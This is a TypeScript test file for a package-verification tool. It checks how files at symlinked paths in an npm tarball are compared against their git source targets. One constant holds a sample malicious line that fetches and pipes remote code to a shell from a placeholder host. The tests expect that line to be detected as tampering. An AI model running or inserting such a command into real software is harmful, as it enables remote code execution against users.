/**
 * A path that is a symbolic link in the source exists there: a tarball file at that path (or
 * under a linked directory) is compared with what the link points at, never taken for build
 * output. npm pack leaves links out, so a legit tarball only has such a file when a build
 * step copied the target.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { compareContents } from '../src/verify/compare';
import { readCommitTree } from '../src/verify/tree';
import { tempDirs } from './helpers/temp';

const temp = tempDirs();
const manifest = JSON.stringify({ name: 'p', version: '1.0.0', main: 'index.js' });
const GOOD = 'module.exports = 1;\n';
const EVIL = 'require("child_process").exec("curl evil | sh");\n';

function compare(tarball: Record<string, string>, links: Record<string, string>) {
  return compareContents({
    tarball: new Map(Object.entries(tarball).map(([k, v]) => [k, Buffer.from(v)])),
    source: new Map([['package.json', Buffer.from(manifest)], ['lib/index.js', Buffer.from(GOOD)]]),
    links: new Map(Object.entries(links)),
    expected: ['package.json', 'lib/index.js'],
    commit: 'c'.repeat(40),
    commitFrom: 'gitHead',
  });
}

describe('symbolic links in the source', () => {
  test('a file at a linked path is compared with the link target', () => {
    expect(compare({ 'package.json': manifest, 'index.js': EVIL }, { 'index.js': 'lib/index.js' })).toMatchObject({ verdict: 'diverged', files: { modified: ['index.js'] } });
    expect(compare({ 'package.json': manifest, 'index.js': GOOD }, { 'index.js': './lib/index.js' }).verdict).toBe('match');
  });

  test('a file under a linked directory is compared with the file in the target directory', () => {
    expect(compare({ 'package.json': manifest, 'dist/index.js': EVIL }, { dist: 'lib' })).toMatchObject({ verdict: 'diverged', files: { modified: ['dist/index.js'] } });
    expect(compare({ 'package.json': manifest, 'a/b/index.js': GOOD }, { a: 'x', x: '.', 'b': 'lib' }).verdict).toBe('match');
  });

  test('a link the comparison cannot follow (outside the package, a loop) leaves the file as build output', () => {
    expect(compare({ 'package.json': manifest, 'LICENSE': 'MIT' }, { LICENSE: '../../LICENSE' }).verdict).toBe('built');
    expect(compare({ 'package.json': manifest, 'x/y.js': 'a' }, { x: 'x' }).verdict).toBe('built');
    expect(compare({ 'package.json': manifest, 'index.js': GOOD }, { 'index.js': '/lib/index.js' }).verdict).toBe('built');
  });

  test('the source tree names its links and their targets', async () => {
    const work = temp('pg-links-');
    const git = (...args: string[]) => execFileSync('git', ['-C', work, ...args], { env: { PATH: process.env.PATH, HOME: work, GIT_CONFIG_NOSYSTEM: '1' } }).toString().trim();
    git('init', '-q');
    mkdirSync(join(work, 'lib'));
    writeFileSync(join(work, 'lib', 'index.js'), GOOD);
    symlinkSync('lib/index.js', join(work, 'index.js'));
    git('add', '.');
    git('-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-qm', 'x');
    const tree = await readCommitTree(join(work, '.git'), git('rev-parse', 'HEAD'), { env: { PATH: process.env.PATH, HOME: work } });
    expect(tree.links).toEqual(new Map([['index.js', 'lib/index.js']]));
    expect(tree.files.has('index.js')).toBe(false);
  });
});
